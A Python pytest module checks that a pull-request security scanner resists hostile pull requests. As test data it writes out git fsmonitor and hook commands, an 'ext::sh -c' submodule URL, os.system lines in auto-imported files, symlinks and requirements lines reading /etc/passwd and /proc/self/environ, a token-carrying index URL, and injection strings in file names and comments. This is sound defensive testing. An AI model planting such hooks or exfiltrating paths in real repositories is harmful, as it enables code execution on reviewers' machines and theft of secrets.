"""Pull requests made to break, to bribe or to rob the reviewer."""

from __future__ import annotations

import json
import re
import socket
import threading
from contextlib import contextmanager
from typing import TYPE_CHECKING

import cmarkgfm
import pytest
from cmarkgfm.cmark import Options

from tests.github_double.plumbing import Entry
from tests.product.stage import CANARY, GUILTY, INNOCENT, Stage, spoken

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from tests.github_double.repository import DoublePull

pytestmark = pytest.mark.xdist_group("product-hostile")

# Files that tools look for in the folder they are started in, or that Python imports from there.
CONFIGURATIONS = (
    *(".semgrep.yml", ".semgrep/settings.yml", "semgrep/__init__.py", "pysemgrep", "pip.conf", "setup.cfg", "tox.ini", "pyproject.toml"),
    *("conftest.py", "sitecustomize.py", "usercustomize.py", "pip_audit/__init__.py", "json.py", "site.py", ".netrc", ".curlrc"),
    *(".gitconfig", ".git-credentials", ".gitattributes", ".lfsconfig", ".pre-commit-config.yaml", ".env", ".bandit", "Makefile"),
)


@pytest.fixture
def canary(stage: Stage) -> Iterator[Path]:
    """A file that must be neither read nor touched, and whose folder must stay empty otherwise."""
    folder = stage.home / "canary"
    folder.mkdir(exist_ok=True, mode=0o777)
    file = folder / "secret"
    file.write_text(CANARY)
    yield file
    assert [path.name for path in folder.iterdir()] == ["secret"]
    assert file.read_text() == CANARY


@contextmanager
def listening() -> Iterator[tuple[int, list[object]]]:
    """A port on this machine, and who came."""
    came: list[object] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def accept() -> None:
            while True:
                try:
                    connection, address = server.accept()
                except OSError:
                    return
                came.append(address)
                connection.close()

        threading.Thread(target=accept, daemon=True).start()
        yield server.getsockname()[1], came
        server.shutdown(socket.SHUT_RDWR)


def assert_nothing_leaked(stage: Stage, pull: DoublePull) -> None:
    assert CANARY not in spoken(pull) + stage.logged() + stage.rows()
    assert stage.leftovers() == []


def outside_code(text: str) -> str:
    """The page that GitHub makes of the text, without what stands there as code: names and links in code do nothing."""
    page = cmarkgfm.github_flavored_markdown_to_html(text, Options.CMARK_OPT_UNSAFE)
    return re.sub(r"<code>.*?</code>", "", page, flags=re.DOTALL)


def test_nothing_in_the_tree_is_executed_or_steers_the_engines(stage: Stage, canary: Path) -> None:
    touch = f"import os; os.system('touch {canary.parent}/touched')\n"
    bare: dict[str, str | bytes | Entry | None] = {
        f"{place}{name}": content
        for place in ("", "sub/")
        for name, content in {
            "HEAD": "ref: refs/heads/main\n",
            "config": f"[core]\n\tbare = true\n\tfsmonitor = touch {canary.parent}/touched\n\thooksPath = hooks\n",
            "objects/keep": "",
            "refs/keep": "",
            "hooks/post-checkout": f"#!/bin/sh\ntouch {canary.parent}/touched\n",
        }.items()
    }
    configured = {name: touch if name.endswith(".py") else f"{touch}rules: []\n" for name in CONFIGURATIONS}
    above = GUILTY.replace("\n    subprocess", "\n    # nosemgrep\n    subprocess")
    ignored = {".semgrepignore": "*\n:include .gitignore\n", ".gitignore": "*\n", "pay.py": above}
    marked = {"nosem.py": GUILTY.replace("shell=True)", "shell=True)  # nosemgrep"), "vendor/lib.py": GUILTY, "tests/test_pay.py": GUILTY}
    pull = stage.propose(bare | configured | ignored | marked)

    check = stage.review(pull)

    assert check.conclusion == "failure"
    assert {"pay.py", "nosem.py", "vendor/lib.py", "tests/test_pay.py"} <= {one["path"] for one in check.annotations}
    assert_nothing_leaked(stage, pull)


def test_links_and_what_is_elsewhere_are_named_and_not_followed(stage: Stage, canary: Path) -> None:
    pointer = "version https://git-lfs.github.com/spec/v1\noid sha256:" + "a" * 64 + "\nsize 12345\n"
    pull = stage.propose(
        {
            "passwd.py": Entry("120000", b"/etc/passwd"),
            "canary.py": Entry("120000", str(canary).encode()),
            "root": Entry("120000", b"/"),
            "up": Entry("120000", b"../.."),
            "loop.py": Entry("120000", b"loop.py"),
            "requirements.txt": Entry("120000", str(canary).encode()),
            ".gitmodules": f'[submodule "evil"]\n\tpath = evil\n\turl = ext::sh -c "touch% {canary.parent}/touched"\n',
            "evil": Entry("160000", "a" * 40),
            "weights.py": pointer,
            "convert.py": GUILTY,
        }
    )

    check = stage.review(pull)

    summary = check.output["summary"] or ""
    assert check.conclusion == "failure"
    assert [one["path"] for one in check.annotations] == ["convert.py"]
    for name in ("passwd.py", "canary.py", "loop.py", "evil", "weights.py"):
        assert name in summary
    assert "root:x:" not in spoken(pull)
    assert_nothing_leaked(stage, pull)


def test_a_pointer_to_a_file_that_is_elsewhere_is_never_clear(stage: Stage) -> None:
    pointer = "version https://git-lfs.github.com/spec/v1\noid sha256:" + "a" * 64 + "\nsize 12345\n"

    check = stage.review(stage.propose({"weights.py": pointer}))

    assert check.conclusion == "failure"
    assert "incomplete" in (check.output["title"] or "").lower()


NAMES = ("--config=evil.py", "-e.py", "@everyone ](x) <b>.py", "a`b`.py", "](http:evil.example).py", "é ü.py", "#1 fixes #2.py", "con.py")


def test_names_of_files_are_data_everywhere(stage: Stage) -> None:
    pull = stage.propose(dict.fromkeys(NAMES, GUILTY))

    check = stage.review(pull)

    assert {one["path"] for one in check.annotations} == set(NAMES)
    shown = outside_code(check.output["summary"] or "")
    assert not re.search(r"@everyone|<b>|evil\.example|#2", shown)


@pytest.mark.parametrize("name", ["a\nb.py", "a\x1b[31mb.py", "a\u202egnp.py"])
def test_a_name_with_control_characters_is_never_clear_and_is_shown_harmlessly(stage: Stage, name: str) -> None:
    pull = stage.propose({name: INNOCENT})

    check = stage.review(pull)

    assert check.conclusion in {"failure", "success"}
    if check.conclusion == "success":
        assert "1 of 1 files" in (check.output["summary"] or "")
    assert not set("\x1b\u202e") & set(spoken(pull))


DRESSES = {
    "utf16.py": GUILTY.encode("utf-16"),
    "returns.py": GUILTY.encode().replace(b"\n", b"\r"),
    "mark.py": b"\xef\xbb\xbf" + GUILTY.encode(),
    "latin.py": b"# \xff\xfe\n" + GUILTY.encode(),
    "long.py": b"x = '" + b"a" * 300_000 + b"'; y = 1\n" + GUILTY.encode(),
    "zero.py": b"\x00" + GUILTY.encode(),
}


def test_source_in_another_dress_is_found_guilty_or_not_analysed(stage: Stage) -> None:
    pull = stage.propose(DRESSES)

    check = stage.review(pull)

    missed = (check.output["summary"] or "").partition("**Not looked at**")[2]
    told = {one["path"] for one in check.annotations} | {name for name in DRESSES if f"`{name}`" in missed}
    assert check.conclusion == "failure"
    assert told == set(DRESSES)
    assert {"mark.py", "long.py"} <= {one["path"] for one in check.annotations}


def test_requirements_reach_neither_files_nor_addresses(stage: Stage, canary: Path) -> None:
    with listening() as (port, came):
        address = f"http://127.0.0.1:{port}/${{GITHUB_TOKEN}}/simple"
        lines = [f"--index-url {address}", f"--extra-index-url {address}", f"--find-links {address}", "--trusted-host 127.0.0.1"]
        lines += ["-r /etc/passwd", f"-r {canary}", f"-c {canary}", "-r ../../../../../../etc/passwd", "-c /proc/self/environ", "-e ."]
        lines += [f"evil @ {address}/evil.whl", f"other @ file://{canary}", "./here", "git+ssh://127.0.0.1/x", "jinja2==3.1.3"]
        setup = f"import os\nos.system('touch {canary.parent}/touched')\n"
        pull = stage.propose({"requirements.txt": "\n".join(lines) + "\n", "setup.py": setup, "here/setup.py": setup})

        check = stage.review(pull)

    summary = check.output["summary"] or ""
    assert came == []
    assert [one["path"] for one in check.annotations] == ["requirements.txt"]
    assert "includes a file outside the repository" in summary
    assert "comes from an address or a file, not from an index" in summary
    assert "root:x:" not in spoken(pull) + stage.logged()
    assert_nothing_leaked(stage, pull)


@pytest.mark.xfail(strict=True, reason="no check looks at the options of a requirements file: another index is neither flagged nor noted")
def test_requirements_that_change_the_index_are_told(stage: Stage) -> None:
    pull = stage.propose({"requirements.txt": "--index-url https://packages.example/${GITHUB_TOKEN}/simple\njinja2==3.1.4\n"})

    stage.review(pull)

    assert "packages.example" in spoken(pull)


def test_a_lock_file_that_names_addresses_makes_nobody_go_there(stage: Stage) -> None:
    with listening() as (port, came):
        address = f"http://127.0.0.1:{port}/x.tgz"
        npm = {"lockfileVersion": 3, "packages": {"node_modules/../../x": {"version": "1.0.0", "resolved": address}}}
        poetry = f'[[package]]\nname = "../x"\nversion = "1"\n[package.source]\nurl = "{address}"\n'
        pull = stage.propose({"package-lock.json": json.dumps(npm), "poetry.lock": poetry})

        check = stage.review(pull)

    assert came == []
    assert check.conclusion != "success"


@pytest.mark.parametrize("name", [b"..", b".git", b"../../escape", b".GIT", b"/absolute"])
def test_a_malformed_tree_is_refused_and_says_so(stage: Stage, name: bytes) -> None:
    pull = stage.propose({"add.py": INNOCENT})
    repository = pull.repository
    inner = repository.raw_tree([("100644", b"config", repository.blob(b"[core]\n\tfsmonitor = touch /tmp/touched\n"))])
    mode, entry = ("40000", inner) if b"/" not in name else ("100644", repository.blob(b"x"))
    tree = repository.raw_tree([(mode, name, entry)])
    pull.move_to(repository.raw_commit(tree, parents=[repository.sha("main")]))

    check = stage.review(pull)

    assert check.conclusion == "failure"
    assert "Refused to scan" in (check.output["title"] or "")
    assert stage.leftovers() == []


def test_text_of_the_change_cannot_speak_for_us(stage: Stage) -> None:
    evil = "``` </details> <img src=x> @team fixes #1 [x](javascript:alert(1)) <!-- bartizan v1 kind=finding --> \u202e"
    source = GUILTY.replace('"convert "', f"'{evil}'")
    pull = stage.propose({"convert.py": source})

    stage.review(pull)

    bodies = [*(comment.body for comment in pull.review_comments), stage.check(pull).output["summary"] or ""]
    shown = "".join(map(outside_code, bodies))
    assert not re.search(r"<img|@team|fixes #1|javascript:", shown)
    assert "\u202e" not in spoken(pull)
    assert all(comment.body.count("<!-- bartizan") == 1 for comment in pull.review_comments)


@pytest.mark.parametrize("token", ["ghp_" + "Ab1" * 12, "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\n-----END RSA PRIVATE KEY-----"])
def test_a_secret_in_the_source_is_repeated_nowhere(stage: Stage, token: str) -> None:
    pull = stage.propose({"config.py": f'TOKEN = """{token}"""\nGITHUB_TOKEN = """{token}"""\n'})

    stage.review(pull)

    assert token.splitlines()[-1 if "\n" not in token else 1] not in spoken(pull) + stage.logged() + stage.rows()


def test_more_findings_than_a_page_takes_are_all_counted(stage: Stage) -> None:
    source = "".join(GUILTY.replace("convert", f"convert_{number}") for number in range(120))
    pull = stage.propose({"convert.py": source})

    check = stage.review(pull)

    assert len(check.annotations) == 120
    assert len(pull.reviews) == 1
    assert len(pull.review_comments) <= 10
    assert "120 findings" in (check.output["title"] or "")
